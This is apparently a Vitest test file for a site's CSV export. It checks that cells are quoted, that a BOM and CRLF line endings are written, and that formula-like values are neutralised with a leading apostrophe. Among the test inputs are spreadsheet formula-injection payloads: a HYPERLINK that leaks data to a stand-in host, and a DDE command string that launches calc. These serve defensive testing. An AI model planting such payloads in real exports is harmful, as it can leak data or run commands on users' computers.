/** CSV for spreadsheets: quoted cells, a BOM, and no cell a spreadsheet would run as a formula (OWASP). */
import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../src/presentation/csv';

describe('CSV the site writes', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak")', `"'=HYPERLINK(""http://evil.example/?leak"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tcmd', `"'\tcmd"`],
    ['\rcmd', `"'\rcmd"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['400-123-6688', '"400-123-6688"'],
    ['普通号码 "50"', '"普通号码 ""50"""'],
  ])('%j becomes %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('a BOM, a header and CRLF lines', () => {
    expect(csvText(['输入', '号码'], [['=1', '4001236688']])).toBe('\uFEFF"输入","号码"\r\n"\'=1","4001236688"\r\n');
  });
});
